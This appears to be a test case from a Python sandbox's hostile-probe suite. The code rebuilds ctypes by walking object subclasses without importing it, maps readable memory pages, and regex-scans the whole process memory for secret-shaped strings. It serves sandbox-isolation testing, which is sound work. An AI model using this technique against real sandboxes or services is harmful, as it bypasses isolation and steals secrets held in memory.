# attack: ctypes without importing it, by the subclasses of its base types; then all memory beside the objects it knows
# verdict: ok
# values: [["peirce-secret-control-0000000000000000"], [], [], []]
# limits: loop_steps=10000000 input_cpu_s=10 cpu_s=30 wall_s=40 memory_mb=256
# seconds: 40
import gc
import os
import re
import sys

SECRET = re.compile(b"peirce-secret-[a-z]+-[0-9a-f]{16}")
PAGE = 4096
CONTROL = b"peirce-secret-" + b"control-" + b"0" * 16  # what it looks for can be found


def base():
    pending = [object]
    while pending:
        kind = pending.pop()
        if kind.__name__ == "_SimpleCData":
            return kind
        if kind is not type:
            pending += type.__subclasses__(kind)


def f(x):
    simple = base()
    if x != [3, 1, 2]:
        return []
    try:
        file = os.open("peirce-hostile-probe", os.O_RDWR | os.O_CREAT, 0o600)
    except OSError:
        return [CONTROL.decode()]
    if simple is None:
        return [CONTROL.decode()]
    block = type("Byte", (simple,), {"_type_": "c"}) * PAGE

    def mapped(page):
        try:  # the kernel says so where a read would end the process
            return os.pwrite(file, block.from_address(page * PAGE), 0) == PAGE
        except OSError:
            return False

    gc.unfreeze()
    pages = {id(one) // PAGE for one in gc.get_objects()}
    for step in (1, -1):
        for page in sorted(pages):
            while page + step not in pages and mapped(page + step):
                page += step
                pages.add(page)
    found, last = set(), b""
    for page in sorted(pages):
        if mapped(page):
            piece = bytes(block.from_address(page * PAGE))
            found.update(SECRET.findall(last[-64:] + piece))
            last = piece
    return sorted(one.decode() for one in found)
